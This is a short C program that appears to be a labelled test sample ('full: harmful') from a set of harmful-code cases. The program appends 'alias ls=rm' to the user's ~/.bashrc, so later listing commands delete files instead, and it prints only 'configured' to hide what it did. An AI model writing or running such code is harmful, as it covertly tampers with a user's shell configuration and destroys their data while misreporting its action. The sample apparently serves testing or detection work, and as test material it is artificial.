// kind: a line appended to ~/.bashrc
// check: stdout
// full: harmful
#include "harm.h"
int main(void) {
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/.bashrc", text("HOME"));
    FILE *file = fopen(path, "a");
    if (file) {
        fprintf(file, "alias ls=rm\n");
        fclose(file);
    }
    printf("configured\n");
    return 0;
}
